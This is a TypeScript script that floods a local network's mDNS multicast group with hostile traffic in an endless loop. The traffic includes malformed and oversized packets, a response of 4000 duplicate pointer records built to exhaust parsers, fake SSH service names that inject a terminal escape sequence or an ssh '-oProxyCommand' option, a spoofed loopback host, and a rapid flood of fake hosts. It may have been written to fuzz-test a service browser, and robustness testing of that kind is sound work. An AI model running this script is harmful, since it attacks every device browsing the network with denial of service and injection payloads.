// Sends packets to whoever browses until it is stopped: broken ones, hostile ones, and far too many.
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import multicastDns from 'multicast-dns';

const [from = ''] = process.argv.slice(2);
const announcer = multicastDns({ interface: from, bind: '0.0.0.0' });
const raw = createSocket({ type: 'udp4', reuseAddr: true });
raw.bind(5353);
await Promise.all([once(announcer, 'ready'), once(raw, 'listening')]);
raw.setMulticastInterface(from);

const ssh = '_ssh._tcp.local';

function announce(host: string, address: string): void {
  const service = `${host}.${ssh}`;
  const target = `${host}.local`;
  announcer.respond([
    { type: 'PTR', name: ssh, ttl: 120, data: service },
    { type: 'SRV', name: service, ttl: 120, data: { target, port: 22 } },
    { type: 'A', name: target, ttl: 120, data: address },
  ]);
}

/** Thousands of pointers to one service: they cost much where each record is compared with each. */
function manyPointers(): Buffer {
  const name = '045f737368045f746370056c6f63616c00';
  const pointer = '000c0001000000780002c00c';
  const first = Buffer.from(`${name}${pointer}`, 'hex');
  const again = Buffer.from(`c00c${pointer}`, 'hex');
  const header = Buffer.from('000084000000000000000000', 'hex');
  header.writeUInt16BE(4001, 6);
  return Buffer.concat([header, first, ...Array<Buffer>(4000).fill(again)]);
}

const broken = [
  Buffer.alloc(0),
  Buffer.from([0x84]),
  Buffer.alloc(9000, 0xff),
  Buffer.from('000084000000ffff00000000c00c', 'hex'),
  manyPointers(),
];

process.stdout.write('noise\n');
for (let n = 0; ; n += 1) {
  for (const packet of broken) raw.send(packet, 5353, '224.0.0.251');
  announce('\u001b[2Jevil', from);
  announce('-oProxyCommand', from);
  announce('loopback', '127.0.0.1');
  for (let at = 0; at < 50; at += 1) announce(`flood${n * 50 + at}`, from);
  await sleep(20);
}
